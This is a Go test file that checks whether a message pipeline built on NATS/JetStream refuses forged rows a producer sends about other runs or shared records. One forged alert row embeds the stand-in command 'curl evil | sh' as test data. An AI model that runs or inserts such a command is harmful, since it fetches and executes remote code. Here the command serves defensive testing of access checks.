package credentials_test

import (
	"context"
	"math"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/rs/zerolog"
	"golang.org/x/sync/errgroup"

	"github.com/tensortap/tensortap/pipelines"
	"github.com/tensortap/tensortap/schemas"
)

// forgery is a message that no honest producer of a run makes.
type forgery struct {
	name    string
	message schemas.Message
	stopped bool // by the server; else by who reads the stream
}

func packed[R any, P schemas.Row[R]](tb testing.TB, rank uint32, row *R) schemas.Message {
	tb.Helper()
	b := schemas.NewBuilder[R, P]()
	b.Append(row)
	m, err := b.Message(schemas.Identity{RunID: schemas.RunID(ownRun), Rank: rank, Epoch: 4711})
	must(tb, err)
	return m
}

// forgeries say, under the producer's own run, what is of another or of all.
func forgeries(tb testing.TB) []forgery {
	tb.Helper()
	own, other, op := schemas.RunID(ownRun), schemas.RunID("other"), schemas.OpID("Functional.linear.20.forward")
	renamed := schemas.ParseOpName("Functional.evil.0.forward")
	renamed.OpID = op
	moved := schemas.ParseOpName("Functional.linear.20.forward")
	moved.ModulePath, moved.LayerIndex = "model.layers.99", 99
	declared := &schemas.DeclaredComparisonRow{DeclaredTimeNs: math.MaxInt64 - 5, Problem: ownRun, Benches: []string{"good"}, Tolerance: 1e30, Standing: 1}
	declared.ComparisonID = schemas.DeclaredComparisonID(declared)
	return []forgery{
		{"another run is renamed", packed(tb, 0, &schemas.RunRow{RunID: other, Name: "renamed"}), false},
		{"another run is described", packed(tb, 1, &schemas.RunRow{RunID: other, Name: "other"}), false},
		{"the own run has a name of another id", packed(tb, 2, &schemas.RunRow{RunID: own, Name: "other"}), false},
		{"another run gets a rank", packed(tb, 0, &schemas.RankRow{RunID: other, Rank: 0}), false},
		{"a rank under another's subject", packed(tb, 1, &schemas.RankRow{RunID: own, Rank: 7}), false},
		{"an op is renamed", packed(tb, 0, &renamed), false},
		{"an op is put into another layer", packed(tb, 1, &moved), false},
		{"a site of another id", packed(tb, 0, &schemas.SiteRow{SiteID: schemas.SiteID(op, "output", "0"), OpID: op, Role: "output", Path: "1"}), false},
		{"a layout of another id", packed(tb, 0, &schemas.LayoutRow{LayoutID: schemas.LayoutID(&schemas.LayoutRow{Kind: "none"}), Kind: "tensor"}), false},
		{"a stack of another id", packed(tb, 0, &schemas.StackRow{StackID: schemas.StackID([]string{"a"}), Frames: []string{"b"}}), false},
		{"a signature of another id", packed(tb, 0, &schemas.SignatureRow{SignatureID: 5, OpName: "aten.mm.default"}), false},
		{"another run's code", packed(tb, 0, &schemas.ProgramStackRow{RunID: other, ProgramID: 1}), false},
		{"another run's step", packed(tb, 0, &schemas.StepRow{RunID: other, Epoch: 4711}), false},
		{"a letter about nothing", packed(tb, 0, &schemas.DeadLetterRow{Origin: "clickhouse"}), false},
		{"a letter about another run", packed(tb, 1, &schemas.DeadLetterRow{Origin: "publisher", Subject: schemas.Subject("step", other, 0)}), false},
		{"an alert", packed(tb, 0, &schemas.AlertRow{Fingerprint: 1, Ordinal: 1, State: "firing", RunName: ownRun, Command: "curl evil | sh"}), true},
		{"a comparison that tolerates all", packed(tb, 0, declared), true},
		{"an exception for all ops", packed(tb, 0, &schemas.KnownExceptionRow{API: ".*", Sort: "uninitialised"}), true},
		{"an answer", packed(tb, 0, &schemas.ComparisonRow{Problem: ownRun, Verdict: "same"}), true},
		{"a distance of raw tensors", packed(tb, 0, &schemas.PayloadErrorRow{ProblemRunID: own, SameBits: 1}), true},
		{"a deed", packed(tb, 0, &schemas.AuditRow{Deed: "delete", SystemUser: "somebody"}), true},
		{"a baseline", packed(tb, 0, &schemas.BaselineRow{Name: ownRun}), true},
	}
}

// reading is a sink that decodes as those of the consumers do, and counts the rows of each kind.
type reading struct {
	mutex sync.Mutex
	rows  map[string]int64
}

func (s *reading) Write(_ context.Context, messages []schemas.Message) error {
	s.mutex.Lock()
	defer s.mutex.Unlock()
	refused := map[int]string{}
	for i, m := range messages {
		record, err := m.Record()
		if err != nil {
			refused[i] = err.Error()
			continue
		}
		s.rows[m.Header.Kind] += record.NumRows()
	}
	if len(refused) > 0 {
		return &schemas.RejectedError{Reasons: refused}
	}
	return nil
}

func (s *reading) of(kind string) int64 {
	s.mutex.Lock()
	defer s.mutex.Unlock()
	return s.rows[kind]
}

// TestAProducerOfOneRunForgesNothing has it say what is not its to say. Nothing of that is stored, all that came into the stream is counted
// and put aside with its reason, and what it says truly is stored.
func TestAProducerOfOneRunForgesNothing(t *testing.T) {
	t.Parallel()
	f, cfg := startFleet(t), config(t)
	consume, producer := f.as(t, "consume"), f.as(t, "producer")
	must(t, pipelines.Prepare(t.Context(), consume.js, cfg))
	store := &reading{rows: map[string]int64{}}
	delivery, err := pipelines.New(cfg, consume.js, "clickhouse", store, zerolog.Nop(), time.Now)
	must(t, err)
	ctx, stop := context.WithCancel(t.Context())
	var group errgroup.Group
	group.Go(func() error { return delivery.Run(ctx) })
	defer func() {
		stop()
		must(t, group.Wait())
	}()
	aside := int64(0)
	for _, forged := range forgeries(t) {
		m := forged.message
		must(t, producer.PublishMsg(&nats.Msg{Subject: m.Subject(), Header: m.NATSHeader(), Data: m.Data}))
		if stopped := producer.wasRefused(t, m.Subject()); stopped != forged.stopped {
			t.Errorf("%s: refused by the server %v, want %v", forged.name, stopped, forged.stopped)
		}
		if !forged.stopped {
			aside++
		}
	}
	for _, m := range honest(t) {
		_, err := producer.js.PublishMsg(t.Context(), &nats.Msg{Subject: m.Subject(), Header: m.NATSHeader(), Data: m.Data})
		must(t, err)
	}
	eventually(t, "what is true is stored, and a row for each letter", func() bool {
		return store.of("metric") == 1 && store.of("dead_letter") == aside-2 // a letter about a letter has none
	})
	for _, m := range honest(t) {
		if n := store.of(m.Header.Kind); n != 1 {
			t.Errorf("%d rows of %s are stored, want the true one", n, m.Header.Kind)
		}
	}
	counts := delivery.Metrics().Snapshot()
	if counts.DeadLetters != aside || counts.Malformed+counts.Rejected != aside {
		t.Errorf("%d letters, %d malformed, %d rejected; want %d put aside", counts.DeadLetters, counts.Malformed, counts.Rejected, aside)
	}
}

// honest is what the producer says of its own run and of what all share, the last of a kind that comes last.
func honest(tb testing.TB) []schemas.Message {
	tb.Helper()
	own, op := schemas.RunID(ownRun), schemas.ParseOpName("Module.layers.3.Linear.forward.0")
	again := op
	again.Phase = schemas.PhaseRecompute // as msProbe's second forward
	site := &schemas.SiteRow{SiteID: schemas.SiteID(op.OpID, "output", "0"), OpID: op.OpID, Role: "output", Path: "0"}
	layout := &schemas.LayoutRow{Kind: "str", Literal: "cut within \xe2\x82"}
	layout.LayoutID = schemas.LayoutID(layout)
	frames := []string{"File \xff.py", "\x1b[31m"}
	signature := &schemas.SignatureRow{OpName: "aten.mm.default", Inputs: []string{""}}
	signature.SignatureID = schemas.SignatureID(signature)
	return []schemas.Message{
		packed(tb, 3, &schemas.RunRow{RunID: own, Name: ownRun}), packed(tb, 3, &schemas.RankRow{RunID: own, Rank: 3}), packed(tb, 3, &again),
		packed(tb, 3, site), packed(tb, 3, layout), packed(tb, 3, &schemas.StackRow{StackID: schemas.StackID(frames), Frames: frames}),
		packed(tb, 3, signature), packed(tb, 3, &schemas.ProgramStackRow{RunID: own, ProgramID: 1}),
		packed(tb, 3, &schemas.StepRow{RunID: own, Rank: 3, Epoch: 4711}), packed(tb, 3, &schemas.MetricRow{RunID: own, Rank: 3, Epoch: 4711}),
	}
}

// TestAMessageThatTookAnothersIdIsInItsPlace keeps docs/security.md true: no right mends what it says there is weaker.
func TestAMessageThatTookAnothersIdIsInItsPlace(t *testing.T) {
	t.Parallel()
	f := startFleet(t)
	must(t, pipelines.Prepare(t.Context(), f.as(t, "consume").js, config(t)))
	alert := packed(t, schemas.NoRank, &schemas.AlertRow{Fingerprint: 1, Ordinal: 1, State: "firing", RunName: ownRun})
	_, err := f.as(t, "producer").js.PublishMsg(t.Context(), &nats.Msg{Subject: schemas.Subject("step", schemas.RunID(ownRun), 0), Header: alert.NATSHeader()})
	must(t, err)
	ack, err := f.as(t, "alert").js.PublishMsg(t.Context(), &nats.Msg{Subject: alert.Subject(), Header: alert.NATSHeader(), Data: alert.Data})
	if err != nil || !ack.Duplicate {
		t.Errorf("the stream took both, %v: docs/security.md says that it drops the second", err)
	}
}
